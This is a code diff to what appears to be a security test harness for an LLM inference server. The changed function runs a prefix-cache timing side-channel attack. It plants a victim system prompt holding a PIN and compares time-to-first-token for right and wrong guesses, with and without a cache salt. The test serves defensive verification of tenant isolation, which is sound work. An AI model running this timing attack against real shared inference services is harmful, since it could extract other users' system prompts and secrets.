@@ -368,33 +368,33 @@ def attack_prefix_cache_timing(target: Target, tries: int = 3) -> list[AttackRow
 
 
 def _prefix_timing(target: Target, tries: int, salted: bool) -> AttackRow:
-    secret = f"You are the assistant of ACME{int(salted)}. The vault PIN is 4711. " * 40
 
     def ttft(system: str, salt: str | None) -> float:
+        """Time to a one-token answer: prefill plus one step (a streamed first chunk would
+        carry only the role, before any prefill)."""
         doc: dict[str, object] = {
-            "model": target.model, "max_tokens": 1, "stream": True,
+            "model": target.model, "max_tokens": 1,
             "messages": [{"role": "system", "content": system}, {"role": "user", "content": "hi"}],
         }  # fmt: skip
         if salt:
             doc["cache_salt"] = salt
         started = time.perf_counter()
-        with httpx.stream(
-            "POST",
-            target.url + "/v1/chat/completions",
-            json=doc,
-            headers=target.headers(),
-            timeout=60,
-        ) as r:
-            for _ in r.iter_bytes():
-                return time.perf_counter() - started
+        r = httpx.post(
+            target.url + "/v1/chat/completions", json=doc, headers=target.headers(), timeout=60
+        )
+        r.raise_for_status()
         return time.perf_counter() - started
 
-    ttft(secret, "victim-salt-5f1c" if salted else None)  # the victim's prompt is cached
-    right = min(ttft(secret, None) for _ in range(tries))
-    wrong = min(ttft(secret.replace("4711", f"{i:04d}"), None) for i in range(tries))
+    rights, wrongs = [], []
+    for n in range(tries):  # each try a new victim: a guess, once made, is cached itself
+        secret = f"You are the assistant of ACME-{salted}-{n}. The vault PIN is 4711. " * 40
+        ttft(secret, "victim-salt-5f1c" if salted else None)  # the victim's prompt, cached
+        rights.append(ttft(secret, None))
+        wrongs.append(ttft(secret.replace("4711", "0000"), None))
+    right, wrong = min(rights), min(wrongs)
     return AttackRow(
         f"prefix-cache timing (victim {'salted' if salted else 'unsalted: control'})",
-        Counter({"200": 2 * tries + 1}),
+        Counter({"200": 3 * tries}),
         f"TTFT right guess {right:.3f} s vs wrong {wrong:.3f} s (a leak: right << wrong)",
     )
 
